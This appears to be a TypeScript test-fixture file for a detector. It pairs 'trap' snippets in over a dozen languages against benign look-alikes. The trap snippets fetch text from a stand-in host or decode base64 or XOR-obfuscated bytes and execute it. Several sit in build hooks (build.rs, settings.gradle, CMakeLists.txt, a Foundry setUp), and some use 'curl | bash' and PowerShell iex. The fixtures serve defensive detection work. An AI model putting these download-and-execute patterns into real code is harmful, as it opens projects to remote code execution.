const U = 'https://cdn.prices.example/x';
const b64 = 'ZWNobyBoaQ==';

/** Name, path, text, kind: what was fetched or decoded is run under a name. Nothing of it does harm. */
export const followedTraps: readonly (readonly [string, string, string, string])[] = [
  ['Ruby', 'lib/seed.rb', `require 'net/http'\ncode = Net::HTTP.get(URI('${U}'))\ndata = code.strip\neval(data)\n`, 'runs-fetched-text'],
  ['Ruby of base64', 'Rakefile', `step = Base64.decode64('${b64}')\nsystem(step)\n`, 'runs-decoded-text'],
  ['PHP', 'app/boot.php', `<?php\n$ch = curl_init('${U}');\n$out = curl_exec($ch);\n$body = json_decode($out, true);\neval($body['t']);\n`, 'runs-fetched-text'],
  ['PHP of layers', 'index.php', `<?php\n$a = '${b64}';\n$b = gzinflate(base64_decode($a));\neval($b);\n`, 'runs-decoded-text'],
  ['Go', 'main.go', `func init() {\n\tresp, _ := http.Get("${U}")\n\tbody, _ := io.ReadAll(resp.Body)\n\texec.Command("sh", "-c", string(body)).Run()\n}\n`, 'runs-fetched-text'],
  ['Java', 'src/A.java', `class A { void go() throws Exception {\n  String cmd = new String(Base64.getDecoder().decode("${b64}"));\n  Runtime.getRuntime().exec(cmd);\n} }\n`, 'runs-decoded-text'],
  ['Kotlin', 'src/A.kt', `val text = URL("${U}").openStream().reader().readText()\nScriptEngineManager().getEngineByName("kts").eval(text)\n`, 'runs-fetched-text'],
  ['settings of Gradle', 'settings.gradle', `rootProject.name = 'notes'\ndef t = new URL('${U}').text\nt.execute()\n`, 'runs-fetched-text'],
  ['settings of Gradle in base64', 'settings.gradle', `def cmd = new String('${b64}'.decodeBase64())\ncmd.execute()\n`, 'runs-decoded-text'],
  ['C#', 'Program.cs', `var bytes = await client.GetByteArrayAsync("${U}");\nvar a = Assembly.Load(bytes);\n`, 'runs-fetched-text'],
  ['Rust', 'build.rs', `let body = reqwest::blocking::get("${U}")?.text()?;\nCommand::new("sh").arg("-c").arg(&body).spawn()?;\n`, 'runs-fetched-text'],
  ['a shell', 'setup.sh', `#!/bin/sh\nSTEP=$(curl -fsSL ${U})\neval "$STEP"\n`, 'runs-fetched-text'],
  ['a shell that pipes a name', 'setup.sh', `#!/bin/sh\nB="${b64}"\nP=$(echo $B | base64 -d)\necho "$P" | bash\n`, 'runs-decoded-text'],
  ['PowerShell', 'setup.ps1', `$c = (New-Object Net.WebClient).DownloadString('${U}')\niex $c\n`, 'runs-fetched-text'],
  ['PowerShell of a block', 'setup.ps1', `$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64}'))\n& ([scriptblock]::Create($t))\n`, 'runs-decoded-text'],
  ['a test of Foundry', 'test/Vault.t.sol', `function setUp() public {\n  string[] memory a = new string[](3);\n  a[0] = "bash"; a[1] = "-c"; a[2] = "curl -s ${U} | bash";\n  vm.ffi(a);\n}\n`, 'runs-fetched-text'],
  ['Rust of bytes in a function', 'build.rs', `fn line() -> String { PART.iter().map(|b| (b ^ 0x5a) as char).collect() }\nfn main() {\n    let cmd = line();\n    Command::new("sh").arg("-c").arg(&cmd).spawn();\n}\n`, 'runs-decoded-text'],
  ['Rust in pieces', 'src/a.rs', `let tool = ["cu", "rl"].concat();\nlet script = format!("{} -fsSL {} | bash", tool, "${U}");\nCommand::new("bash").args(["-c", &script]).spawn().ok();\n`, 'runs-fetched-text'],
  ['C++', 'a.cpp', `static std::string line() {\n  std::string s;\n  for (unsigned char c : part) s += static_cast<char>(c ^ 0x5a);\n  return s;\n}\nint main() {\n  std::string cmd = line();\n  std::system(cmd.c_str());\n}\n`, 'runs-decoded-text'],
  ['C', 'a.c', `FILE *in = popen("curl -s ${U}", "r");\nwhile (fgets(line, sizeof line, in)) system(line);\n`, 'runs-fetched-text'],
  ['Java with a shell', 'src/B.java', `class B { static String text(String s) { return new String(Base64.getDecoder().decode(s)); }\n  static void go() { String line = text("${b64}"); new ProcessBuilder("/bin/sh", "-c", line).start(); } }\n`, 'runs-decoded-text'],
  ['CMake', 'CMakeLists.txt', `file(DOWNLOAD ${U} "\${CMAKE_BINARY_DIR}/tool")\nexecute_process(COMMAND "\${CMAKE_BINARY_DIR}/tool")\n`, 'starts-fetched-file'],
  ['Visual Basic', 'a.vbs', `text = http.responseText\nExecuteGlobal text\n`, 'runs-fetched-text'],
];

export const followedOrdinary: readonly (readonly [string, string, string])[] = [
  ['an answer in Ruby', 'lib/a.rb', `body = Net::HTTP.get(URI(u))\nputs JSON.parse(body)['a']\nsystem('make')\n`],
  ['an answer in PHP', 'a.php', `<?php $r = file_get_contents($url); $rows = json_decode($r); echo count($rows); system('ls');`],
  ['a word of a command in Go', 'main.go', `resp, _ := http.Get(u)\nexec.Command("git", "clone", resp.Header.Get("x")).Run()\n`],
  ['a token in Java', 'A.java', `byte[] b = Base64.getDecoder().decode(token);\nSystem.out.println(b.length);\nnew ProcessBuilder("git", "status").start();\n`],
  ['a version in Gradle', 'build.gradle', `def version = 'git describe'.execute().text.trim()\nrepositories { maven { url = uri('https://repo.spring.io') } }\n`],
  ['a version in a shell', 'a.sh', `V=$(curl -s ${U} | jq -r .tag)\necho "$V"\nwget "https://a.example/$V.tar.gz"\neval "$(ssh-agent -s)"\n`],
  ['rows in PowerShell', 'a.ps1', `$r = Invoke-RestMethod '${U}'\nWrite-Host $r.name\nStart-Process notepad\n`],
  ['a build script in Rust', 'build.rs', `let out = Command::new("git").args(["rev-parse", "HEAD"]).output();\nCommand::new("sh").arg("-c").arg("make").status();\n`],
  ['a file of CMake', 'CMakeLists.txt', `file(DOWNLOAD https://a.example/CPM.cmake "\${CMAKE_BINARY_DIR}/CPM.cmake")\ninclude("\${CMAKE_BINARY_DIR}/CPM.cmake")\nexecute_process(COMMAND git describe)\n`],
  ['a checksum in C', 'a.c', `unsigned sum(const char *p) { unsigned h = 0; while (*p) h ^= *p++; return h; }\nint main(void) { system("clear"); return sum("a"); }\n`],
  ['a contract', 'src/A.sol', `contract A { function f() public { token.transfer(msg.sender, 1); } }`],
];
